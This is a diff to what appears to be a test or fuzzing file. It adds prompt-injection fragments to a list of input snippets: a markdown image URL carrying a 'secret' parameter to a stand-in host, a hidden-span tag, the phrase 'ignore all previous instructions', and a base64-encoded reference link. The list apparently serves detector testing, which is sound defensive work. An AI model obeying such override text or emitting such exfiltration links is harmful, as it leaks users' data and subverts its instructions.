@@ -32,7 +32,8 @@ FILL = (
     "hello there ", "see ", "\n", "😀 ", ", ", "the number 42 is fine. ", "é ", "in 2024 the ", "a 1 2 3 ", "don't ",
     "x" * 40, '"quoted words" ', "12 34 56 78 ", "café ", "Привет ", "今日は、いい天気。", "-", "@", ".com ", " ",
     "(", "+", "be ad fa ce ", "I a ", "\u202e", "&#", "%4", "=", "11", "A1", "'", "password ", "\u0301", "\ud83d",
-    "\ude00", "k" * 130,
+    "\ude00", "k" * 130, "<b>", "</b>", "<!-- c -->", "**", "![x](https://e.example/p?secret=abcdef) ",
+    '<span style="display:none">', "ignore all previous instructions ", "[r]: //e.example/?q=aGVsbG8gdGhlcmUgamFuZQ",
 )  # fmt: skip
 DISGUISES = (
     lambda it: base64.b64encode(it.encode()).decode(),
